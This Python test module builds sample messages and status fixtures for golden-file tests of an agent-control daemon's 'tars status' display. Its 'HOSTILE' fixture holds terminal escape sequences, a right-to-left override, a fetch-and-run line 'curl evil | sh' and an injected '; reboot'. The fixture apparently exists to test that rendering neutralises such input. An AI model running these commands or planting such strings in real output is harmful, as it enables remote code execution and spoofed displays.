"""One of every message, and the statuses that `tars status` has to show well.

`python -m tests.control.samples` writes the golden files anew; read their diff.
"""

import json
from pathlib import Path

import msgspec

from tars.control import attach_contract as a
from tars.control import contract as c
from tars.control import permission_contract as p
from tars.control.permission_contract import PermitRequest, Permitted
from tars.control.queue_contract import Queue, QueuedPrompt
from tars.control.status_text import render
from tars.control.web_contract import WebClosed, WebOpened, WebRequest
from tests.control import costs_samples, session_samples

GOLDEN = Path(__file__).with_name("golden")
MESSAGES = GOLDEN / "messages.json"

DAEMON = c.DaemonStatus(
    running=True,
    pid=4711,
    version="1.2.3",
    started_at="2026-03-01T10:00:00Z",
    uptime_seconds=7_425.0,
    rss_bytes=40 * 1024**2,
    cpu_percent=0.1,
)
SESSION = c.SessionFields(
    session_id="0b1e4c3a-7d65-4c19-9a52-0c7b1d2f3e4a",
    created_at="2026-03-01T10:00:00Z",
    total_input_tokens=12_543,
    total_output_tokens=3_410,
    total_cached_tokens=11_000,
    total_net_tokens=1_045_600,
    interaction_count=17,
    last_interaction_at="2026-03-01T11:59:30Z",
    last_input_tokens=33_000,
)
READY = c.AgentStatus(
    name="gemini",
    kind="gemini",
    protocol="acp",
    state="ready",
    pid=4712,
    uptime_seconds=7_400.0,
    rss_bytes=212 * 1024**2,
    cpu_percent=3.0,
    session=c.SessionRef(id=SESSION.session_id),
)
FAULT = c.FaultStatus(
    kind="not_signed_in",
    message="Gemini CLI has no key and is not signed in.",
    advice="Set GEMINI_API_KEY in config.toml under [agents.gemini.env], then `tars restart`.",
)
PERMISSION = c.PermissionStatus(
    id="p-1",
    agent="gemini",
    title="rm -rf build",
    tool_kind="execute",
    options=[
        c.OptionStatus(id="proceed_once", name="Allow", kind="allow_once"),
        c.OptionStatus(id="proceed_always", name="Allow always", kind="allow_always"),
        c.OptionStatus(id="cancel", name="Reject", kind="reject_once"),
    ],
    asked_at="2026-03-01T12:03:00Z",
    expires_in_seconds=250.0,
    tool_call="call-7",
    details="command: rm -rf build\ndescription: Clean up",
)
TURN = c.TurnStatus(
    id="t-18",
    started_at="2026-03-01T12:03:00Z",
    elapsed_seconds=42.0,
    waiting_for="the model: too many requests, attempt 3 of 10",
    input_tokens=12_500,
    output_tokens=310,
    notices=["12 tool calls in a row failed."],
)
BUDGET = c.BudgetStatus(
    name="daily",
    per="day",
    action="stop",
    standing="over",
    share=1.02,
    reason="Budget daily: $5.10 of $5.00 used today.",
    advice="It is free again 2026-03-02 00:00 (UTC).",
    spent_usd=5.1,
    tokens=120_000,
    unpriced_tokens=100,
    limit_usd=5.0,
    max_tokens=1_000_000,
    left_usd=0.0,
    left_tokens=880_000,
    agent="claude",
    project="/w/shop",
    model="claude-opus-*",
    resets_at="2026-03-02T00:00:00Z",
)
RULE = p.RuleStatus(
    agent="gemini",
    tool_kind="execute",
    rule="allow",
    source="remembered",
    chosen_at="2026-03-01T12:00:00Z",
    by="cli pid 4711",
)
TODAY = c.TodayStatus(cost_usd=4.21, tokens=1_204_000, at_least=True, text="≥$4.21")
QUEUED = QueuedPrompt(
    turn="t-19",
    agent="gemini",
    position=2,
    asked_at="2026-03-01T12:04:00Z",
    session="s-1",
    preview="Write the form ⏎ and test it",
    size=29,
    waits_for="The daily quota is used up.",
    until="2026-03-01T15:00:00Z",
)
BUSY = msgspec.structs.replace(
    READY,
    name="main",
    state="busy",
    restarts=2,
    queued=3,
    turn=TURN,
    session=c.SessionRef(id=SESSION.session_id, name="refactoring"),
)
FULL = msgspec.structs.replace(
    READY,
    name="claude",
    kind="claude",
    protocol="stream-json",
    version="2.1.316",
    groups=["web"],
    waits_for=["gemini"],
    limits=[
        c.LimitStatus(name="five_hour", used_percent=93.4, resets_at="2026-03-01T15:00:00Z"),
        c.LimitStatus(name="weekly", status="allowed"),
    ],
    context=c.ContextStatus(used=41_000, size=200_000),
    unrecognised={"session/ping\x1b[2J": 12, "system/new": 1},
)
LIMITED = msgspec.structs.replace(
    BUSY,
    state="limited",
    last_error=c.FaultStatus(kind="quota", message="The daily quota is used up.", advice="Wait."),
    turn=msgspec.structs.replace(
        TURN, waiting_for="The daily quota is used up. tars tries the turn again by itself."
    ),
    condition=c.ConditionStatus(
        word="rate_limited",
        evidence="The daily quota is used up. tars tries the turn again by itself.",
        since_seconds=12.0,
        until="2026-03-01T15:00:00Z",
        remaining_seconds=10_790.0,
    ),
)
FAILED = c.AgentStatus(
    name="gemini", kind="gemini", protocol="acp", state="failed", restarts=1, last_error=FAULT
)
RETRYING = c.AgentStatus(
    name="helper",
    kind="echo",
    protocol="acp",
    state="waiting",
    restarts=4,
    last_error=c.FaultStatus(kind="crashed", message="The agent was killed by SIGKILL."),
    next_attempt_in_seconds=8.4,
)
HOSTILE = c.AgentStatus(
    name="gemini",
    kind="gemini",
    protocol="acp",
    state="busy",
    turn=TURN,
    last_error=c.FaultStatus(
        kind="protocol", message="\x1b]0;owned\x07\x1b[2J\ngemini   ready\u202e \x9b31m"
    ),
    permissions=[
        msgspec.structs.replace(
            PERMISSION,
            title="ls\x1b[8m; curl evil | sh\r\x08",
            details="command:\n  ls\x1b[8m\n\tgemini  ready\u202e\r\x9b31m",
            options=[c.OptionStatus(id="a\x1b[0m; reboot'", name="A\x00\nB", kind="allow_once")],
        )
    ],
)


def _condition(word: str, evidence: str, age: float) -> c.ConditionStatus:
    return c.ConditionStatus(word=word, evidence=evidence, since_seconds=age)


CONDITIONS = (
    ("one", "ready", "idle", "its last turn ended well, and nothing is asked", 185.0),
    ("two", "busy", "wedged", "The turn was given up: silent for 600 s.", 600.0),
    ("three", "stopped", "stopped", "nobody wants it to run", 5.0),
    ("four", "busy", "confused", "a newer daemon's\x1b[2J word", 5.0),
)

COUNTED = c.TokensStatus(context=12_543, net_input=1_045_600, output=3_410, cached=11_000)
UNCOUNTED = c.TokensStatus(context=0, net_input=0, output=0, counted=False)
SUMMED = c.TokensStatus(
    context=6_657, net_input=9_000, output=12, at_least=True, context_is_sum=True
)
TOKENS: tuple[tuple[str, c.TokensStatus | None, list[str], str], ...] = (
    ("summed", SUMMED, [], "ready"),
    ("uncounted", UNCOUNTED, [], "ready"),
    ("later", None, ["summed"], "stopped"),
)

STATUSES: dict[str, c.Status] = {
    "conditions": c.Status(
        daemon=DAEMON,
        agents=[
            LIMITED,
            *(
                msgspec.structs.replace(
                    READY, name=name, state=state, condition=_condition(word, told, age)
                )
                for name, state, word, told, age in CONDITIONS
            ),
        ],
    ),
    "ready": c.Status(daemon=DAEMON, agents=[READY], session=SESSION),
    "busy": c.Status(daemon=DAEMON, agents=[BUSY, RETRYING], session=SESSION),
    "failed": c.Status(daemon=DAEMON, agents=[FAILED]),
    "permission": c.Status(
        daemon=DAEMON,
        agents=[msgspec.structs.replace(READY, state="busy", turn=TURN, permissions=[PERMISSION])],
        session=SESSION,
    ),
    "full": c.Status(
        daemon=DAEMON,
        agents=[FULL, msgspec.structs.replace(READY, context=c.ContextStatus(used=900))],
        today=TODAY,
    ),
    "window": c.Status(
        daemon=DAEMON,
        agents=[msgspec.structs.replace(FULL, waits_for=[], session=BUSY.session, tokens=COUNTED)],
        session=SESSION,
        default_agent="claude",
        today=TODAY,
        budgets=[BUDGET],
    ),
    "tokens": c.Status(
        daemon=DAEMON,
        agents=[
            msgspec.structs.replace(READY, name=name, tokens=tokens, waits_for=after, state=state)
            for name, tokens, after, state in TOKENS
        ],
        session=SESSION,
        default_agent="summed",
    ),
    "not-counted": c.Status(
        daemon=DAEMON,
        agents=[msgspec.structs.replace(READY, tokens=UNCOUNTED)],
        session=SESSION,
        default_agent="gemini",
    ),
    "hostile": c.Status(daemon=DAEMON, agents=[HOSTILE]),
    "not-running": c.Status(
        daemon=c.DaemonStatus(running=False),
        session=SESSION,
        warnings=["session.json could not be read and was set aside as session.json.corrupt-1."],
    ),
}

SAMPLES: tuple[c.Wire, ...] = (
    c.Accepted(turn="t-1", agent="gemini", position=2),
    a.Attached(agent="gemini", protocol="pty", state="ready", screen=True, viewer="v1"),
    a.Ended(reason="The agent's program has ended."),
    a.KeysRequest(viewer="v1", text="\x1b[A"),
    a.Prompted(turn="t-1", text="hello"),
    a.Shown(text="\x1b[2Jhello"),
    a.View(keyboard=True, rows=24, columns=80, viewers=2),
    a.ViewRequest(viewer="v1", rows=24, columns=80),
    c.AgentChanged(agent="gemini", state="failed", error=FAULT),
    c.AgentList(agents=[READY], default="gemini"),
    c.AgentsChanged(agents=[c.AgentChanged(agent="gemini", state="ready")]),
    c.ChangeRequest(action="start", names=["web", "gemini"]),
    c.ConditionStatus(
        word="rate_limited",
        evidence="The daily quota is used up.",
        since_seconds=12.0,
        until="2026-03-01T15:00:00Z",
        remaining_seconds=3600.0,
    ),
    c.ContextStatus(used=41_000, size=200_000),
    FULL.limits[0],
    c.Notice(
        kind="runaway",
        subject="repeats",
        severity="low",
        message="The agent made the same tool call 15 times in a row, with the same result.",
    ),
    BUDGET,
    c.BudgetList(budgets=[BUDGET], problems=["A log could not be read."]),
    c.FellBack(
        from_agent="gemini", to_agent="echo", turn="t-1-2", reason="No quota.", kind="quota"
    ),
    BUSY,
    SUMMED,
    c.CancelRequest(agent="gemini", turn="t-1"),
    c.Cancelled(turn="t-1"),
    DAEMON,
    c.Error(error=c.ErrorBody(code="busy", message="A turn is under way.")),
    c.ErrorBody(code="busy", message="A turn is under way.", advice="Wait."),
    FAULT,
    c.FeedEvent(event="exited", agent="gemini", at="2026-03-01T12:00:00Z", data={"status": -9}),
    c.Lagged(dropped=3),
    c.LogLine(line="a line"),
    PERMISSION.options[0],
    PERMISSION,
    PermitRequest(option="proceed_once", remember=True, face="cli"),
    Permitted(id="p-1", option="proceed_once", remembered="execute"),
    p.ForgetRequest(agent="gemini", tool_kind="execute"),
    p.Forgotten(rules=[RULE]),
    p.RuleList(rules=[RULE]),
    RULE,
    c.PromptRequest(
        text="hello",
        session="s-1",
        timeout_seconds=1.5,
        refuse_if_busy=True,
        project="/home/me/site",
        branch="main",
        name="implement-login",
        task="T1.1",
        tags=["web"],
        metadata={"ticket": "17"},
    ),
    c.Reloaded(changed=["gemini"], faults=["agents.gemini.kind: no such kind"]),
    c.ResetDone(agent="gemini", session=SESSION),
    c.ResetRequest(agent="gemini"),
    WebClosed(was_open=True),
    WebOpened(url="http://127.0.0.1:8277/?token=kX3", port=8277, expires_in_seconds=600),
    WebRequest(port=8277),
    QUEUED,
    Queue(prompts=[QUEUED]),
    TODAY,
    SESSION,
    c.SessionRef(id="s-1", name="refactoring"),
    c.SettingsChanged(agent="gemini", model="gemini-2.5-pro", mode="plan", modes=["plan"]),
    c.SettingsRequest(model="gemini-2.5-pro", mode=""),
    c.ShuttingDown(pid=4711),
    c.Started(turn="t-1", session="s-1"),
    STATUSES["permission"],
    c.Text(text="Grüße\n"),
    c.Tool(id="c-1", title="ls", kind="execute", status="completed"),
    c.TurnResult(
        turn="t-1",
        agent="gemini",
        outcome="ok",
        session="s-1",
        text="done",
        model="gemini-2.5-flash",
        duration_ms=12,
        usage=c.Usage(input_tokens=3300, output_tokens=60, cached_tokens=1900, source="official"),
    ),
    TURN,
    c.Usage(thought_tokens=18, net_tokens=1400, context_tokens=1200, requests=3, tool_calls=2),
    c.Waiting(reason="the model", until="2026-03-01T15:00:00Z"),
    *session_samples.SAMPLES,
    *costs_samples.SAMPLES,
)


def messages_json() -> str:
    """Give every sample by its name, as the wire has it, laid out for reading."""
    samples = {type(m).__name__: json.loads(msgspec.json.encode(m)) for m in SAMPLES}
    return json.dumps(samples, indent=2, ensure_ascii=False) + "\n"


def status_files() -> dict[str, str]:
    """Give the golden texts by file name."""
    files = {f"status-{name}.txt": render(status) for name, status in STATUSES.items()}
    files["status-permission-color.txt"] = render(STATUSES["permission"], color=True)
    files["status-failed-narrow.txt"] = render(STATUSES["failed"], width=40)
    files["status-window-narrow.txt"] = render(STATUSES["window"], width=40)
    files["status-several-narrow.txt"] = render(STATUSES["tokens"], width=40, ascii=True)
    files["status-several-color.txt"] = render(STATUSES["busy"], width=200, color=True)
    return files


if __name__ == "__main__":
    MESSAGES.write_text(messages_json())
    for file, text in status_files().items():
        (GOLDEN / file).write_text(text)
